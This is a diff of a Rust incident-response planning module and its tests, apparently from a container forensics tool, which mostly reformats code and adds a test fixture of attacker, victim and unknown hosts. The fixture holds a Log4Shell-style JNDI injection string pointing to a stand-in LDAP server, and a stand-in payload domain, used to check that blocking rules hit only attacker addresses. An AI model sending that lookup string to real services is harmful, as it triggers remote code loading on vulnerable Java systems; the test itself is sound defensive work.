@@ -4,10 +4,9 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 
-
+use crate::analyze::story::hosts::{HostRecord, Role};
 use crate::evidence::ArtifactKind;
 use crate::model::Finding;
-use crate::analyze::story::hosts::{HostRecord, Role};
 use crate::report::{BundleReport, ResponseStep};
 
 /// Exposure rules that make an escape to the host likely.
@@ -209,7 +208,12 @@ pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
     steps
 }
 
-fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[Finding], report: &BundleReport) {
+fn finding_steps(
+    steps: &mut Vec<ResponseStep>,
+    targets: &[Target],
+    findings: &[Finding],
+    report: &BundleReport,
+) {
     let by_rule = |rule: &str| -> Vec<&Finding> { findings.iter().filter(|f| f.rule == rule).collect() };
     let owner = |f: &Finding| f.title.split_once(": ").map(|(n, _)| n.to_string()).unwrap_or_default();
 
@@ -293,9 +297,11 @@ fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[
 
     // The attacker's addresses (exploit senders, callbacks, payload servers, mining pools),
     // never the victim's own or a third party's: the story classified every host.
-    let attackers: Vec<&HostRecord> = report.story.hosts.iter().filter(|h| h.role == Role::Attacker).collect();
+    let attackers: Vec<&HostRecord> =
+        report.story.hosts.iter().filter(|h| h.role == Role::Attacker).collect();
     if !attackers.is_empty() {
-        let why: Vec<String> = attackers.iter().map(|h| format!("{}: {}", h.value, clip(&h.reasons.join("; ")))).collect();
+        let why: Vec<String> =
+            attackers.iter().map(|h| format!("{}: {}", h.value, clip(&h.reasons.join("; ")))).collect();
         let block: Vec<String> = attackers
             .iter()
             .filter(|h| h.kind == "ip")
@@ -307,7 +313,8 @@ fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[
                 ]
             })
             .collect();
-        let names: Vec<&str> = attackers.iter().filter(|h| h.kind == "domain").map(|h| h.value.as_str()).collect();
+        let names: Vec<&str> =
+            attackers.iter().filter(|h| h.kind == "domain").map(|h| h.value.as_str()).collect();
         let names = if names.is_empty() {
             String::new()
         } else {
@@ -468,6 +475,26 @@ mod tests {
         b.containers = doc.containers;
         let mut findings = crate::analyze::exposure::audit(&b.containers);
         findings.push(jndi());
+        let host = |value: &str, kind, role, why: &str| HostRecord {
+            value: value.into(),
+            kind,
+            role,
+            reasons: vec![why.into()],
+            first_seen: None,
+            last_seen: None,
+            evidence: vec![],
+        };
+        b.story.hosts = vec![
+            host(
+                "198.51.100.7",
+                "ip",
+                Role::Attacker,
+                "sent a JNDI request ${jndi:ldap://198.51.100.7:1389/Exploit}",
+            ),
+            host("evil.example.com", "domain", Role::Attacker, "served a payload"),
+            host("172.17.0.5", "ip", Role::Victim, "IP address of container web"),
+            host("192.0.2.9", "ip", Role::Unknown, "named in a log"),
+        ];
         let plan = plan(&b, &findings);
         let steps: Vec<&str> = plan.iter().map(|s| s.step.as_str()).collect();
         assert_eq!(
@@ -483,7 +510,7 @@ mod tests {
                 "Take web's host-side veth down",
                 "Check the host and every other container: an escape is likely",
                 "Rotate the secrets in web's environment: DB_PASSWORD, API_TOKEN",
-                "Block the attacker's callback addresses",
+                "Block the attacker's addresses",
                 "Hunt for the same indicators on other hosts and containers",
                 "Kill web once its evidence is saved",
             ]
@@ -498,6 +525,11 @@ mod tests {
         assert!(cmds(5).contains("docker top web -eo pid,ppid,user,lstart,args > web.top.txt"));
         assert_eq!(cmds(6), "docker network disconnect backend web\ndocker network disconnect bridge web");
         assert!(cmds(10).contains("iptables -I DOCKER-USER -d 198.51.100.7 -j DROP"), "{}", cmds(10));
+        assert!(
+            !cmds(10).contains("172.17.0.5") && !cmds(10).contains("192.0.2.9"),
+            "only attacker-side: {}",
+            cmds(10)
+        );
         assert!(plan[10].why.ends_with("egress proxy: evil.example.com"), "{}", plan[10].why);
         assert!(plan[10].why.contains("${jndi:ldap://198.51.100.7:1389/Exploit}"));
         assert!(cmds(11).contains("-e 198.51.100.7 -e evil.example.com"), "{}", cmds(11));
